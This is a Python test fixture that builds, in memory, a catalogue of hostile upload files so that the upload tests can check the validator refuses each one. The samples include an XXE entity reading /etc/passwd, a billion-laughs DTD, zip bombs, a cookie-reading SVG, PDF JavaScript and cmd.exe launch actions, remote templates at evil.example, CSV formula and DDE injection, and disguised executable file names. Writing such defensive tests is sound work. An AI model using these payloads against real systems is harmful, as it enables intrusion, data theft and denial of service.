"""A catalogue of hostile files (ASVS V12), built in memory, shared by the upload tests."""

from __future__ import annotations

import io
import zipfile
import zlib
from dataclasses import dataclass

from openpyxl import Workbook

from tests.access import PDF

MB = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    id: str
    name: str
    data: bytes
    reason: str  # a fragment of the English refusal from check_upload
    content_type: str = "application/octet-stream"


def zip_of(parts: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return buf.getvalue()


def docx(extra: dict | None = None) -> bytes:
    return zip_of(
        {
            "[Content_Types].xml": '<?xml version="1.0"?><Types/>',
            "word/document.xml": '<?xml version="1.0"?><w:document/>',
            **(extra or {}),
        }
    )


def xlsx(rows=(("code", "text"), ("A-1", "Heeft u MFA?"))) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = "Q"
    for row in rows:
        ws.append(list(row))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def patch_zip(data: bytes, part: str, change) -> bytes:
    """The archive with one part rewritten by `change(bytes) -> bytes`."""
    source = zipfile.ZipFile(io.BytesIO(data))
    return zip_of(
        {
            i.filename: change(source.read(i)) if i.filename == part else source.read(i)
            for i in source.infolist()
        }
    )


def _with_dtd(dtd: bytes, entity: bytes):
    def change(xml: bytes) -> bytes:
        body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
        return b'<?xml version="1.0"?>' + dtd + body.replace(b"Heeft u MFA?", entity)

    return change


XXE_DTD = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS_DTD = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
)


def xlsx_xxe() -> bytes:
    return patch_zip(xlsx(), "xl/worksheets/sheet1.xml", _with_dtd(XXE_DTD, b"&xxe;"))


def xlsx_billion_laughs() -> bytes:
    return patch_zip(xlsx(), "xl/worksheets/sheet1.xml", _with_dtd(LAUGHS_DTD, b"&lol3;"))


def zip_bomb(kind: str) -> bytes:
    """A valid-looking Office file whose one part inflates a thousandfold."""
    zeros = b"0" * (12 * MB)
    if kind == "docx":
        return docx({"word/media/padding.xml": zeros})
    return zip_of({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": zeros})


def pdf_with(extra: bytes) -> bytes:
    return PDF.replace(b"/Catalog", b"/Catalog " + extra)


def pdf_with_object_stream(objects: bytes) -> bytes:
    """A PDF whose action dictionary sits compressed in an object stream."""
    packed = zlib.compress(objects)
    return (
        b"%PDF-1.5\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
        b"3 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(packed)).encode()
        + b" >>\nstream\n"
        + packed
        + b"\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"
    )


PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"PE\x00\x00" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 40
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>'
HTML = b"<!doctype html><html><body><script>fetch('/api/v1/me/')</script></body></html>"
JS_ACTION = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"


def catalogue() -> list[Hostile]:
    """Every kind of hostile file that check_upload and the upload pages must refuse."""
    return [
        Hostile("oversized", "groot.pdf", PDF + b"0" * (20 * MB), "larger than"),
        Hostile("zero-byte", "leeg.pdf", b"", "empty"),
        Hostile("html-as-pdf", "rapport.pdf", HTML, "does not match"),
        Hostile("html-as-txt", "notitie.txt", b'hoi <img src=x onerror="alert(1)">', "HTML"),
        Hostile("script-after-64k-txt", "log.txt", b"x" * 70_000 + HTML, "HTML"),
        Hostile("svg-as-png", "logo.png", SVG, "does not match", "image/png"),
        Hostile("windows-exe-as-pdf", "rapport.pdf", PE, "does not match", "application/pdf"),
        Hostile("elf-as-pdf", "rapport.pdf", ELF, "does not match", "application/pdf"),
        Hostile("zip-bomb-docx", "beleid.docx", zip_bomb("docx"), "zip bomb"),
        Hostile("zip-bomb-xlsx", "lijst.xlsx", zip_bomb("xlsx"), "zip bomb"),
        Hostile("xlsx-external-entity", "lijst.xlsx", xlsx_xxe(), "document type"),
        Hostile("xlsx-billion-laughs", "lijst.xlsx", xlsx_billion_laughs(), "document type"),
        Hostile("double-extension-exe", "report.pdf.exe", PDF, "not accepted"),
        Hostile("nul-byte-hides-exe", "report.pdf\x00.exe", PDF, "not accepted"),
        Hostile("exe-pdf-not-a-pdf", "invoice.exe.pdf", PE, "does not match"),
        Hostile("png-named-jpg", "foto.jpg", PNG, "does not match", "image/jpeg"),
        Hostile("docx-named-pdf", "rapport.pdf", docx(), "does not match", "application/pdf"),
        Hostile("pdf-openaction-js", "rapport.pdf", pdf_with(JS_ACTION), "JavaScript"),
        Hostile(
            "pdf-hex-escaped-js",
            "rapport.pdf",
            pdf_with(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
            "JavaScript",
        ),
        Hostile(
            "pdf-js-in-object-stream",
            "rapport.pdf",
            pdf_with_object_stream(b"2 0 << /S /JavaScript /JS (app.alert(1)) >>"),
            "JavaScript",
        ),
        Hostile(
            "pdf-additional-actions",
            "rapport.pdf",
            pdf_with(b"/AA << /WC << /S /URI /URI (https://evil.example/) >> >>"),
            "JavaScript",
        ),
        Hostile(
            "pdf-launch",
            "rapport.pdf",
            pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
            "launch",
        ),
        Hostile(
            "pdf-encrypted",
            "rapport.pdf",
            PDF.replace(b"trailer << >>", b"trailer << /Encrypt 5 0 R >>"),
            "Encrypted",
        ),
        Hostile("docx-macro", "beleid.docx", docx({"word/vbaProject.bin": b"\xd0\xcf"}), "macro"),
        Hostile(
            "docm-content-type",
            "beleid.docx",
            docx(
                {
                    "[Content_Types].xml": '<Types><Override ContentType="application/'
                    'vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
                }
            ),
            "macro",
        ),
        Hostile(
            "docx-remote-template",
            "beleid.docx",
            docx(
                {
                    "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="r1" '
                    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                    'attachedTemplate" Target="https://evil.example/t.dotm" '
                    'TargetMode="External"/></Relationships>'
                }
            ),
            "template",
        ),
        Hostile(
            "csv-formula",
            "export.csv",
            b'naam,link\nfoo,"=HYPERLINK(""https://evil.example"",""klik"")"\n',
            "formulas",
        ),
        Hostile("csv-dde", "export.csv", b"naam;waarde\nx;-2+cmd|' /C calc'!A0\n", "formulas"),
        Hostile("csv-tab-formula", "export.csv", b"a,b\n1,\t=1+1\n", "formulas"),
    ]


def spreadsheet_catalogue() -> list[Hostile]:
    """Hostile files offered to the spreadsheet imports (questionnaire and answers)."""
    return [
        Hostile("zero-byte", "lijst.xlsx", b"", "empty"),
        Hostile("oversized", "lijst.xlsx", b"PK\x03\x04" + b"\x01" * (5 * MB), "larger than"),
        Hostile("zip-bomb", "lijst.xlsx", zip_bomb("xlsx"), "zip bomb"),
        Hostile("external-entity", "lijst.xlsx", xlsx_xxe(), "document type"),
        Hostile("billion-laughs", "lijst.xlsx", xlsx_billion_laughs(), "document type"),
        Hostile(
            "macro",
            "lijst.xlsx",
            patch_zip(xlsx(), "[Content_Types].xml", lambda x: x + b"<!-- vbaProject -->"),
            "macro",
        ),
        Hostile("windows-exe", "lijst.xlsx", PE, "not an .xlsx"),
        Hostile("html", "lijst.xlsx", HTML, "not an .xlsx"),
        Hostile("docx-not-xlsx", "lijst.xlsx", docx(), "not an .xlsx"),
        Hostile(
            "malformed-sheet-xml",
            "lijst.xlsx",
            patch_zip(xlsx(), "xl/worksheets/sheet1.xml", lambda x: x[: len(x) // 2]),
            "could not be read",
        ),
    ]
